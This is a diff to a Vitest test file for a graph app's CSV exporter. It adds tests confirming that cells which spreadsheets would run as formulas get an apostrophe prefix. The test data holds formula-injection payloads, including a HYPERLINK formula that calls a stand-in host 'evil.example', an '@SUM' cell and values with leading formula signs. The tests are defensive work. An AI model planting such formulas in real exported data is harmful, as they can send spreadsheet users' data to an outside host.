@@ -1,7 +1,10 @@
 import { describe, expect, it } from 'vitest';
+import { readGraphData } from '../../../src/cli/read-graph-data.ts';
 import { csvField, csvTable, writeCsv } from '../../../src/lib/core/export/csv.ts';
 import { selectScope } from '../../../src/lib/core/export/scope.ts';
-import { smallGraph } from '../../fixtures/export/load-fixture.ts';
+import { loadDatasetOrThrow } from '../../../src/lib/core/io/load.ts';
+import { TemporalGraph } from '../../../src/lib/core/model/temporal-graph.ts';
+import { SMALL, smallGraph } from '../../fixtures/export/load-fixture.ts';
 
 /** A strict RFC 4180 reader, so the test does not trust the writer's own idea of quoting. */
 function parseCsv(text: string): string[][] {
@@ -53,8 +56,51 @@ describe('csv', () => {
 		expect(csvTable(['a', 'b'], [{ a: 1, b: 'x,y' }])).toBe('a,b\r\n1,"x,y"\r\n');
 	});
 
-	it('writes an actors table and a ties table that parse back', () => {
+	it('neutralises a text cell a spreadsheet would run as a formula, and nothing else', () => {
+		expect(csvField('=HYPERLINK("http://evil.example/?x","c")')).toBe(
+			`"'=HYPERLINK(""http://evil.example/?x"",""c"")"`
+		);
+		for (const lead of ['=', '+', '-', '@'])
+			expect(csvField(`${lead}1+1`), lead).toBe(`'${lead}1+1`);
+		expect(csvField('\tcmd')).toBe("'\tcmd");
+		expect(csvField('\r=1')).toBe(`"'\r=1"`);
+		// A formula sign inside the text, a number and a negative number are data.
+		expect(csvField('a=b, c')).toBe('"a=b, c"');
+		expect(csvField(' =1')).toBe(' =1');
+		expect(csvField(-33.5)).toBe('-33.5');
+		expect(csvField(2)).toBe('2');
+	});
+
+	it('neutralises formulas that come from the data, in every table', () => {
+		const files = readGraphData(SMALL).map((f) => ({
+			...f,
+			text: f.text
+				.replace(
+					'{ en: Soviet–DPRK treaty, ja: ソ朝条約 }',
+					`{ en: '=HYPERLINK("http://evil.example","c")', ja: '@SUM(1+1)' }`
+				)
+				.replace('Art. 4', '-2+3')
+		}));
+		const hostile = new TemporalGraph(loadDatasetOrThrow(files));
+		const { ties } = writeCsv(selectScope(hostile, {}), { bom: false });
+		const t = parseCsv(ties);
+		const row = t.find((r) => r[0] === 'ussr-prk-1961')!;
+		const cell = (name: string, r = row) => r[t[0].indexOf(name)];
+		expect(cell('label')).toBe(`'=HYPERLINK("http://evil.example","c")`);
+		expect(cell('title_en')).toBe(`'=HYPERLINK("http://evil.example","c")`);
+		expect(cell('title_ja')).toBe("'@SUM(1+1)");
+		for (const r of t) for (const c of r) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
+	});
+
+	it('starts with a byte-order mark by default, as the CLI and the app both write it', () => {
 		const { nodes, ties } = writeCsv(selectScope(g, { at: '2024-06-30' }));
+		expect(nodes.startsWith('\uFEFFid,')).toBe(true);
+		expect(ties.startsWith('\uFEFFid,')).toBe(true);
+		expect(writeCsv(selectScope(g, {}), { bom: false }).nodes.startsWith('id,')).toBe(true);
+	});
+
+	it('writes an actors table and a ties table that parse back', () => {
+		const { nodes, ties } = writeCsv(selectScope(g, { at: '2024-06-30' }), { bom: false });
 		const n = parseCsv(nodes);
 		expect(n[0].slice(0, 6)).toEqual(['id', 'label', 'kind', 'name_en', 'name_ja', 'cow']);
 		expect(n.map((r) => r[0])).toEqual(['id', 'RUS', 'PRK', 'USA', 'JPN', 'KOR']);
